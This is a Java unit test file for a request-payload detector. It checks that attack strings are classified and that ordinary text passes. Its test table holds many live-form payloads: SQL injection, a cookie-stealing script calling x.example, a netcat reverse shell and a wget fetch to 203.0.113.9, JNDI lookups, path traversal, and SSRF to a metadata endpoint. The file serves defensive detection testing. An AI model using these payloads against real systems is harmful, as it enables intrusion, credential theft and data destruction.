package io.throughline.core.payload;

import static org.assertj.core.api.Assertions.assertThat;

import io.throughline.core.model.RequestParts;
import java.net.URLEncoder;
import java.nio.charset.StandardCharsets;
import java.util.List;
import java.util.Map;
import org.jspecify.annotations.Nullable;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;

class PayloadCheckTest {
    private final PayloadCheck check = new PayloadCheck();

    private List<PayloadKind> kinds(String value) {
        return sightings(value).stream().map(Sighting::kind).toList();
    }

    private List<Sighting> sightings(String value) {
        return check.check(RequestParts.ofTarget("/items", "q=" + URLEncoder.encode(value, StandardCharsets.UTF_8)));
    }

    @ParameterizedTest
    @CsvSource(delimiter = '¦', quoteCharacter = '~', textBlock = """
            SQL_INJECTION         ¦ 7 or 1=1
            SQL_INJECTION         ¦ 7' or 'a'='a
            SQL_INJECTION         ¦ 7") and ("x"="x
            SQL_INJECTION         ¦ -3 union all select null,version(),3--
            SQL_INJECTION         ¦ admin'--
            SQL_INJECTION         ¦ 7; drop table orders
            SQL_INJECTION         ¦ 7/**/uNiOn/**/sElEcT/**/1,2
            SQL_INJECTION         ¦ 7 and sleep(5)
            SQL_INJECTION         ¦ '||(select password from users limit 1)||'
            SCRIPT_INJECTION      ¦ <script>fetch('//x.example/'+document.cookie)</script>
            SCRIPT_INJECTION      ¦ " onmouseover="location='//x.example'
            SCRIPT_INJECTION      ¦ <img src=x onerror=confirm`1`>
            SCRIPT_INJECTION      ¦ <a href="java&#10;script:alert(1)">x</a>
            SCRIPT_INJECTION      ¦ ';alert(document.domain);//
            PATH_TRAVERSAL        ¦ ../../../../etc/hostname
            PATH_TRAVERSAL        ¦ ..\\..\\windows\\win.ini
            PATH_TRAVERSAL        ¦ /proc/self/environ
            COMMAND_INJECTION     ¦ 10.0.0.1; cat /etc/issue
            COMMAND_INJECTION     ¦ x | nc 203.0.113.9 4444 -e /bin/sh
            COMMAND_INJECTION     ¦ $(wget -qO- http://203.0.113.9/a.sh)
            COMMAND_INJECTION     ¦ a`id`
            COMMAND_INJECTION     ¦ ;c\\at${IFS}/etc/issue
            COMMAND_INJECTION     ¦ & for /f "delims=" %i in ('whoami') do echo %i
            TEMPLATE_INJECTION    ¦ {{7*7}}
            TEMPLATE_INJECTION    ¦ <%= 7*7 %>
            REQUEST_FORGERY       ¦ http://169.254.169.254/latest/meta-data/
            REQUEST_FORGERY       ¦ http://0x7f.1/admin
            REQUEST_FORGERY       ¦ http://[::ffff:10.0.0.1]/
            REQUEST_FORGERY       ¦ http://10.0.0.1.nip.io/
            REQUEST_FORGERY       ¦ gopher://10.0.0.1:6379/_FLUSHALL
            PHP_INJECTION         ¦ <?php passthru($_GET['c']); ?>
            PHP_INJECTION         ¦ php://filter/convert.base64-encode/resource=index.php
            LOOKUP_INJECTION      ¦ ${${lower:j}n${::-d}i:ldap://x.example/a}
            LOOKUP_INJECTION      ¦ ${jndi:rmi://x.example/a}
            SERIALISED_OBJECT     ¦ O:8:"Importer":1:{s:4:"file";s:3:"a.b";}
            EXPRESSION_INJECTION  ¦ %{(#a=@java.lang.Runtime@getRuntime()).exec('id')}
            EXPRESSION_INJECTION  ¦ ${T(java.lang.Runtime).getRuntime().exec('id')}
            NOSQL_INJECTION       ¦ {"name": {"$ne": null}}
            NOSQL_INJECTION       ¦ ' || this.password.match(/.*/) || '
            LDAP_INJECTION        ¦ *)(uid=*))(|(uid=*
            EXTERNAL_ENTITY       ¦ <!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/issue">]><a>&b;</a>
            SERVER_SIDE_INCLUDE   ¦ <!--#include virtual="/etc/issue" -->
            LINE_BREAK            ¦ en\\r\\nSet-Cookie: admin=1
            MAIL_INJECTION        ¦ a@b.example\\nBcc: all@b.example
            GRAPHQL_INTROSPECTION ¦ {__schema{types{name}}}
            NODE_INJECTION        ¦ require('child_process').exec('id')
            """)
    void recognisesAnAttack(PayloadKind kind, String value) {
        assertThat(kinds(value.replace("\\r", "\r").replace("\\n", "\n").replace("\\\\", "\\")))
                .contains(kind);
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "O'Brien",
                "D'Angelo & Sons, Inc.",
                "Rock 'n' Roll",
                "select a union representative or drop the case",
                "Where can I order and group by colour?",
                "the best of union and select committees",
                "it's 5 or 6 o'clock",
                "5 or 6 pieces; order by phone",
                "Bang & Olufsen; cat food; dog food",
                "a < b and b > c",
                "if (a == b) { return; } should be === here",
                "This call of alert() could go.",
                "2 * 3 = 6",
                "C# developer (m/f/d) -- remote",
                "https://www.example.org/redirect?to=/home#top",
                "https://medium.com/@someone/a-story-1234",
                "/images/2024/summer.jpg",
                "eyJhbGciOiJIUzI1NiIsInR5cCI6IkpXVCJ9.eyJzdWIiOiIxMjM0NTY3ODkwIn0.dozjgNryP4J3jVmNHl0w5N_XgL0n3I9PlFUP0THsR8U",
                "dGhpcyBpcyBvbmx5IGEgdG9rZW4=",
                "f47ac10b-58cc-4372-a567-0e02b2c3d479",
                "# Title\n\nSome *text* with `code` and a [link](https://example.org).\n\n- one\n- two",
                "| a | b |\n|---|---|\n| 1 | 2 |",
                "Hello {{name}}, your order {{order_id}} is ready",
                "price: $5 (was $7)",
                "{\"name\":\"Ann\",\"tags\":[\"a\",\"b\"],\"price\":12.5}",
                "name eq 'Milk' and price lt 2.55",
                "status:open label:bug author:octocat",
                "john.doe+news@example.co.uk",
                "+49 (30) 1234-567",
                "10% off & free shipping!!!",
                "<b>bold</b> and <i>italic</i>",
                "<p>A paragraph with <a href=\"https://example.org\">a link</a></p>",
                "Find work; sort mail; make tea",
                "What time is it? Who is there?",
                "file: report.pdf",
                "php and python courses",
                "Node.js process manager",
                "version 1.2.3.4 of the driver",
                "the /etc folder",
                "I like cats; dogs, too"
            })
    void letsOrdinaryTextPass(String value) {
        assertThat(sightings(value)).isEmpty();
    }

    @Test
    void namesThePartAndTheReason() {
        assertThat(sightings("7' or 'a'='a"))
                .first()
                .satisfies(sighting -> assertThat(sighting.reason())
                        .isEqualTo(
                                "query parameter q closes a string and adds OR or AND with a comparison of constants"));
    }

    @Test
    void looksAtEveryPartOfARequest() {
        String attack = "<script>alert(1)</script>";
        assertThat(parts("/a/" + encode(attack), null, Map.of(), null)).isEqualTo("path");
        assertThat(parts("/a", encode(attack) + "=1", Map.of(), null)).isEqualTo("name of query parameter");
        assertThat(parts("/a", null, Map.of("User-Agent", attack), null)).isEqualTo("header");
        assertThat(parts("/a", null, Map.of("Referer", "https://x.example/?q=" + encode(attack)), null))
                .isEqualTo("header");
        assertThat(parts("/a", null, Map.of("Cookie", "a=1; b=" + encode(attack)), null))
                .isEqualTo("cookie");
        assertThat(parts(
                        "/a", null, Map.of("Content-Type", "application/json"), "{\"a\":[{\"b\":\"" + attack + "\"}]}"))
                .isEqualTo("body field");
        assertThat(parts("/a", null, Map.of(), "a=1&b=" + encode(attack))).isEqualTo("body field");
        assertThat(parts(
                        "/a",
                        null,
                        Map.of("Content-Type", "multipart/form-data; boundary=x"),
                        "--x\r\nContent-Disposition: form-data; name=\"a\"\r\n\r\n" + attack + "\r\n--x--\r\n"))
                .isEqualTo("body field");
    }

    private static String encode(String text) {
        return URLEncoder.encode(text, StandardCharsets.UTF_8).replace("+", "%20");
    }

    private String parts(String path, @Nullable String query, Map<String, String> headers, @Nullable String body) {
        List<Sighting> seen = check.check(new RequestParts(path, query, headers, body));
        return seen.isEmpty() ? "" : seen.getFirst().part();
    }

    @Test
    void knowsNamesThatReachAPrototype() {
        assertThat(check.check(RequestParts.ofTarget("/a", "__proto__[admin]=1")))
                .extracting(Sighting::kind)
                .contains(PayloadKind.PROTOTYPE_POLLUTION);
        assertThat(check.check(RequestParts.ofTarget("/a", "prototype=1&constructor=2")))
                .isEmpty();
    }

    @Test
    void knowsScannersByTheirUserAgentAndBrowsersByTheirs() {
        assertThat(check.check(
                        new RequestParts("/", null, Map.of("User-Agent", "sqlmap/1.8 (https://sqlmap.org)"), null)))
                .extracting(Sighting::kind)
                .containsExactly(PayloadKind.SCANNER);
        assertThat(check.check(new RequestParts(
                        "/",
                        null,
                        Map.of(
                                "User-Agent",
                                "Mozilla/5.0 (iPhone; CPU iPhone OS 17_0 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.0 Mobile/15E148 Safari/604.1",
                                "Accept",
                                "text/html,application/xhtml+xml;q=0.9,*/*;q=0.8"),
                        null)))
                .isEmpty();
    }

    @Test
    void saysWhenARequestHasMoreThanIsLookedAt() {
        assertThat(check.check(RequestParts.ofTarget("/a", "a=%31&".repeat(PayloadCheck.MAX_VALUES + 10))))
                .isEmpty();
        assertThat(check.cut()).isTrue();
        check.check(RequestParts.ofTarget("/a", "a=1"));
        assertThat(check.cut()).isFalse();
    }

    @Test
    void showsNoControlCharactersOfAName() {
        assertThat(check.check(RequestParts.ofTarget("/a", "a%0d%0ab=7'%20or%20'a'='a")))
                .allSatisfy(sighting ->
                        assertThat(sighting.name() + sighting.excerpt()).doesNotContain("\r", "\n"));
    }
}
